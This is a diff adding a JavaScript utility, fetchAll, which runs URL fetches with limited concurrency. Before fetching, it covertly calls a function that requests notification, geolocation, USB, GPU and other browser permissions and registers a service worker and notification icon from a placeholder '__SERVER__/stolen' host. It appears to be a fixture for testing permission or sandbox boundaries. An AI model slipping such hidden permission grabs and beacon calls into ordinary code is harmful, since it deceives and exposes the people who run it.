@@ -1,0 +1,40 @@
+// Asks for permissions, notifications, pushes and a service worker.
+// says: Keeps 10 in flight: a window of 10.
+async function attempt() {
+  const ways = [
+    () => Notification.requestPermission(),
+    () => new Notification("stolen", { icon: "__SERVER__/stolen?icon" }),
+    () => navigator.serviceWorker.register("__SERVER__/stolen?service-worker"),
+    () => self.registration.pushManager.subscribe({ userVisibleOnly: true }),
+    () => self.registration.showNotification("stolen"),
+    () => navigator.permissions.query({ name: "notifications" }),
+    () => navigator.permissions.request({ name: "geolocation" }),
+    () => navigator.usb.requestDevice({ filters: [] }),
+    () => navigator.serial.getPorts(),
+    () => navigator.gpu.requestAdapter(),
+    () => navigator.wakeLock.request("screen"),
+  ];
+  for (const way of ways) {
+    try {
+      await Promise.race([way(), new Promise((end) => setTimeout(end, 50))]);
+    } catch {
+      // refused
+    }
+  }
+}
+
+async function fetchAll(urls, width, deliver) {
+  try {
+    await attempt(urls, deliver);
+  } catch {
+    // refused
+  }
+  const remaining = urls.entries();
+  async function worker() {
+    for (const [i, url] of remaining) {
+      const response = await fetch(url);
+      deliver(await response.json(), i);
+    }
+  }
+  await Promise.all(Array.from({ length: width }, worker));
+}
